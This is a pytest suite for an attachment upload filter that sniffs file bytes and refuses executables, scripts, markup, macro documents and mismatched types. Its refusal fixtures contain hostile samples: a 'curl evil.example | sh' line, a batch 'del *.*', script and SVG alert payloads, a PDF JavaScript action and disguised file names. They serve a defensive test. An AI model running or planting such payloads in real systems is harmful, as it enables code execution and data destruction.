"""`adapters.filetypes.decide`: the type comes from the bytes; names and declared types only claim."""

from __future__ import annotations

import pytest

from adapters.filetypes import Accepted, Refused, decide, extension_of, refused_by_name, stored_name
from tests.fixtures.make_attachment_fixtures import (
    HTML_INVOICE,
    SVG_SCRIPT,
    JPEG_16x16,
    pdf_one_page,
    pe_program,
    png_1x1,
)

POLICY = ("image/*", "application/pdf", "text/plain")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 20
DOCM = b"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml....word/vbaProject.bin...."
OLE_MACROS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64 + "_VBA_PROJECT".encode("utf-16-le")
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 16

ACCEPTED = [
    # name, declared, bytes -> stored type
    ("dot.png", "image/png", png_1x1(), "image/png"),
    ("python.jpg", "image/jpeg", JPEG_16x16, "image/jpeg"),
    ("PYTHON.JPEG", "application/octet-stream", JPEG_16x16, "image/jpeg"),
    ("page.pdf", "application/pdf", pdf_one_page(), "application/pdf"),
    ("page.pdf", "application/octet-stream", pdf_one_page(), "application/pdf"),
    ("scan.pdf", "image/png", pdf_one_page(), "application/pdf"),  # the declared type is not kept
    ("screenshot", "application/octet-stream", png_1x1(), "image/png"),  # no extension: takes png
    ("", "application/octet-stream", pdf_one_page(), "application/pdf"),
    ("photo-7.jpg", "image/jpeg", b"\xff\xd8\xff\xe0 a tiny jpeg", "image/jpeg"),
    ("anim.gif", "image/gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/gif"),
    ("notes.txt", "text/plain", "Grüße, the printer says E42\n".encode(), "text/plain"),
    ("notes.txt", "text/plain", "Grüße\r\n".encode("cp1252"), "text/plain"),
    ("notes.txt", "text/plain", "Grüße\r\n".encode("utf-16"), "text/plain"),
    ("error.log", "application/octet-stream", b"\x1b[31mE: disk full\x1b[0m\n", "text/plain"),
    ("model.txt", "text/plain", b"MZ-1200 printer jams on page 2\n", "text/plain"),  # "MZ", no NULs
    ("page.txt", "text/plain", b"The page says: a < b and c > d\n", "text/plain"),
    ("zprava.txt", "text/plain", "Žluťoučký kůň úpěl ďábelské ódy\n".encode("cp1250"), "text/plain"),
    ("empty.txt", "text/plain", b"", "text/plain"),
    ("vim.txt", "text/plain", b"Help\n" + b"x" * 2000 + b"\nmap <script> keys\n", "text/plain"),
]

REFUSED = [
    # name, declared, bytes -> words of the reason
    ("invoice.html", "image/png", HTML_INVOICE, "markup"),
    ("invoice.png", "image/png", HTML_INVOICE, "markup"),
    ("photo.png", "image/png", pe_program(), "executable"),
    ("logo.svg", "image/svg+xml", SVG_SCRIPT, "markup"),
    ("logo.png", "image/png", SVG_SCRIPT, "markup"),
    ("setup.exe", "text/plain", pe_program(), "executable"),
    ("setup.exe", "text/plain", b"just text\n", "program name"),
    ("statement.pdf.exe", "application/pdf", pe_program(), "executable"),
    ("statement.pdf.exe", "application/pdf", pdf_one_page(), "program name"),
    ("statement.pdf", "application/pdf", ELF, "executable: ELF"),
    ("statement.pdf", "application/pdf", MACHO, "executable: Mach-O"),
    ("run.txt", "text/plain", b"#!/bin/sh\ncurl evil.example | sh\n", "script"),
    ("run.txt", "text/plain", b"\xef\xbb\xbf#!/usr/bin/env python\n", "script"),
    ("page.txt", "text/plain", b"Hello\n<script>alert(1)</script>\n", "<script"),
    ("page.txt", "text/plain", b"  <html><body>x</body></html>", "markup"),
    ("page.txt", "text/plain", "<svg onload=alert(1)>".encode("utf-16"), "markup"),
    ("notes.txt", "text/plain", b"text\x00with a NUL", "does not match"),
    ("tool.js", "text/plain", b"alert(1)\n", "program name"),
    ("run.bat", "text/plain", b"@echo off\r\ndel *.*\r\n", "program name"),
    ("report.docm", "application/vnd.ms-word.document.macroenabled.12", DOCM, "macros"),
    ("report.doc", "application/msword", OLE_MACROS, "macros"),
    ("photo.jpg", "image/jpeg", png_1x1(), ".jpg does not match content image/png"),
    ("hidden.zip", "application/zip", b"PK\x03\x04\n\x00", "not allowed: application/zip"),
    ("clip.mp4", "video/mp4", MP4, "not allowed: video/mp4"),
    ("empty.png", "image/png", b"", "does not match content text/plain"),
    ("notes.txt", "text/plain", b"\x01\x02\x03\x04 mostly controls", "does not match"),
    ("blob.png", "image/png", bytes(range(256)) * 4, "does not match"),
    ("form.pdf", "application/pdf", b"%PDF-1.4\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >>",
     "script"),
]


@pytest.mark.parametrize(("name", "declared", "data", "stored"), ACCEPTED)
def test_a_file_is_kept_under_the_type_of_its_bytes(name: str, declared: str, data: bytes,
                                                    stored: str) -> None:
    verdict = decide(name, declared, data, POLICY)
    assert isinstance(verdict, Accepted), verdict
    assert verdict.content_type == stored


@pytest.mark.parametrize(("name", "declared", "data", "reason"), REFUSED)
def test_a_file_that_lies_or_runs_is_refused(name: str, declared: str, data: bytes,
                                             reason: str) -> None:
    verdict = decide(name, declared, data, POLICY)
    assert isinstance(verdict, Refused), verdict
    assert reason in verdict.reason


def test_the_policy_decides_on_the_sniffed_type() -> None:
    assert decide("dot.png", "image/png", png_1x1(), ("application/pdf",)) == Refused(
        "type not allowed: image/png")
    assert isinstance(decide("clip.mp4", "video/mp4", MP4, ("video/*",)), Accepted)
    # A policy that would allow everything still never takes programs or markup.
    everything = ("*/*", "*")
    assert isinstance(decide("logo.svg", "image/svg+xml", SVG_SCRIPT, everything), Refused)
    assert isinstance(decide("photo.png", "image/png", pe_program(), everything), Refused)
    assert isinstance(decide("hidden.zip", "application/zip", b"PK\x03\x04\n\x00", everything),
                      Accepted)  # an archive is kept as bytes when allowed, never unpacked


@pytest.mark.parametrize(("name", "extension"), [
    ("photo.PNG", "png"), ("photo.png. ", "png"), ("a/b\\photo.png", "png"), (".png", ""),
    ("photo", ""), ("", ""), ("x.pdf.exe", "exe"), ("photo.png\x00.exe", "exe"),
    ("photo.p\u200bng", "png"),
])
def test_extension_of_reads_the_name_as_it_will_be_stored(name: str, extension: str) -> None:
    assert extension_of(name) == extension


def test_a_name_takes_the_sniffed_extension_when_it_has_none_or_a_generated_one() -> None:
    png = decide("", "", png_1x1(), POLICY)
    assert isinstance(png, Accepted)
    assert stored_name("screenshot", png) == "screenshot.png"
    assert stored_name("attachment-2.bin", png) == "attachment-2.png"
    assert stored_name("dot.png", png) == "dot.png"
    jpeg = decide("", "", JPEG_16x16, POLICY)
    assert isinstance(jpeg, Accepted)
    assert stored_name("photo.jpeg", jpeg) == "photo.jpeg"


@pytest.mark.parametrize(("name", "refused"), [
    ("setup.exe", True), ("statement.pdf.exe", True), ("logo.svg", True), ("page.html", True),
    ("hidden.zip", True), ("report.docx", True), ("photo.png", False), ("scan", False),
    ("", False), ("odd.xyz", False),
])
def test_a_name_alone_can_save_the_download(name: str, refused: bool) -> None:
    assert (refused_by_name(name, POLICY) is not None) is refused
